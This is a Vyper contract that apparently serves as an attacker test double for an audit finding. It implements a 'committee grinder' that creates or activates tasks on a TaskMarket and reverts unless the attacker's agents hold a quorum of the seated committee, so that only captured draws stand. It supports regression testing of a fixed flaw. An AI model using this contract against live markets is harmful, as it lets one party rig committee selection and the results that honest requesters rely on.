# pragma version ~=0.4.3
"""
@title Committee grinder (attacker, test double)
@license GNU Affero General Public License v3.0 only
@notice The v1 audit's attack on committee selection: a contract that creates
        or activates a task and reverts unless the agents it controls hold a
        quorum of the seated committee, so that only captured draws stand.
        Retried every block, it captured every v1 committee it wanted.
"""


interface IMarket:
    def createTask(
        model_id: bytes32,
        input: Bytes[4096],
        committee_size: uint8,
        quorum: uint8,
        parents: DynArray[uint256, 8],
    ) -> uint256: payable
    def activate(task_id: uint256): nonpayable
    def committeeOf(task_id: uint256) -> DynArray[address, 16]: view


market: public(IMarket)
# The attacker's agents (owner addresses).
agents: public(DynArray[address, 64])


@deploy
def __init__(market_: IMarket, agents_: DynArray[address, 64]):
    """
    @param market_ The TaskMarket to attack.
    @param agents_ The agents the attacker controls.
    """
    self.market = market_
    self.agents = agents_


@external
@payable
def create(model_id: bytes32, size: uint8, quorum: uint8) -> uint256:
    """
    @notice Creates a task (the requester is this contract).
    @param model_id The model.
    @param size Committee size.
    @param quorum Quorum.
    @return uint256 The task id.
    """
    return extcall self.market.createTask(model_id, b"grind", size, quorum, [], value=msg.value)


@external
@payable
def create_and_capture(model_id: bytes32, size: uint8, quorum: uint8) -> uint256:
    """
    @dev Against v1, whose `createTask` seats the committee at once.
    @notice Creates a task, reverting unless the attacker holds its quorum.
    @param model_id The model.
    @param size Committee size.
    @param quorum Quorum.
    @return uint256 The task id.
    """
    task_id: uint256 = extcall self.market.createTask(
        model_id, b"grind", size, quorum, [], value=msg.value
    )
    assert self._held(task_id) >= convert(quorum, uint256), "grinder: not captured"
    return task_id


@external
def activate_and_capture(task_id: uint256, quorum: uint8):
    """
    @notice Activates a task, reverting unless the attacker holds its quorum.
    @param task_id The task.
    @param quorum Its quorum.
    """
    extcall self.market.activate(task_id)
    assert self._held(task_id) >= convert(quorum, uint256), "grinder: not captured"


@internal
@view
def _held(task_id: uint256) -> uint256:
    """
    @notice Seats of a task's committee held by the attacker's agents.
    @param task_id The task.
    @return uint256 The count.
    """
    held: uint256 = 0
    for member: address in staticcall self.market.committeeOf(task_id):
        if member in self.agents:
            held += 1
    return held
